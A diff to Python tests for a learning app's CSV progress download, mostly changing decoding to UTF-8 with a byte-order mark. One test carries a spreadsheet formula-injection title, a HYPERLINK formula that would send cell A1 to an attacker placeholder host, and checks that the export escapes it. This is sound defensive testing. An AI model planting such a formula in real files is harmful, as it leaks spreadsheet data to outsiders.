@@ -113,7 +113,7 @@ def test_steps_marked_known_are_counted_and_labelled_apart_from_reading(alice, a
     assert [item["card"]["title"] for item in known] == ["Knew it"]
     assert '<a class="chip" href="?show=known"' in response.content.decode()
     rows = list(
-        csv.DictReader(io.StringIO(alice_web.get("/history/progress.csv").content.decode()))
+        csv.DictReader(io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig")))
     )
     assert {row["title"]: row["state"] for row in rows} == labels
 
@@ -131,7 +131,7 @@ def test_history_shows_only_the_learners_own_progress(alice, bob, alice_web):
 def test_a_withdrawn_resource_leaves_the_page_but_not_the_download(alice, alice_web):
     mark(alice, ResourceFactory(title="Withdrawn", status=Status.REJECTED), "completed")
     assert listed_titles(alice_web.get("/history/")) == []
-    download = alice_web.get("/history/progress.csv").content.decode()
+    download = alice_web.get("/history/progress.csv").content.decode("utf-8-sig")
     assert [row["title"] for row in csv.DictReader(io.StringIO(download))] == ["Withdrawn"]
 
 
@@ -181,9 +181,12 @@ def test_the_download_has_every_progress_row_newest_first(alice, alice_web):
     mark(alice, ResourceFactory(title="Open"), "in_progress", minutes_ago=1)
     response = alice_web.get("/history/progress.csv")
     assert response.status_code == 200
-    assert response["Content-Type"] == "text/csv"
+    # UTF-8 said twice: in the header, and with a byte-order mark that spreadsheet programs
+    # read (without it Excel opens the file in a legacy code page and garbles "é" or "日本").
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.content.startswith("\ufeff".encode())
     assert 'filename="kubelearn-progress.csv"' in response["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert [(r["title"], r["state"], r["rating"]) for r in rows] == [
         ("Open", "Reading now", ""),
         ("Done", "Completed", "3"),
@@ -196,7 +199,7 @@ def test_the_download_gives_the_full_date_an_item_put_off_comes_back(alice, alic
     back = timezone.now() + timedelta(days=7)
     Progress.objects.create(user=alice, resource=resource, state="planned", later_until=back)
     rows = list(
-        csv.DictReader(io.StringIO(alice_web.get("/history/progress.csv").content.decode()))
+        csv.DictReader(io.StringIO(alice_web.get("/history/progress.csv").content.decode("utf-8-sig")))
     )
     assert rows[0]["state"] == "Not now"  # not "Not now: back 11 Dec", which has no year
     assert rows[0]["back_in_queue_at"] == back.isoformat(timespec="seconds")
@@ -207,7 +210,7 @@ def test_a_feed_title_that_is_a_spreadsheet_formula_is_downloaded_as_text(alice,
     # '=HYPERLINK(...)' would be a live link that leaks the sheet's other cells.
     title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
     mark(alice, ResourceFactory(title=title), "completed")
-    body = alice_web.get("/history/progress.csv").content.decode()
+    body = alice_web.get("/history/progress.csv").content.decode("utf-8-sig")
     (row,) = csv.DictReader(io.StringIO(body))
     assert row["title"] == "'" + title
 
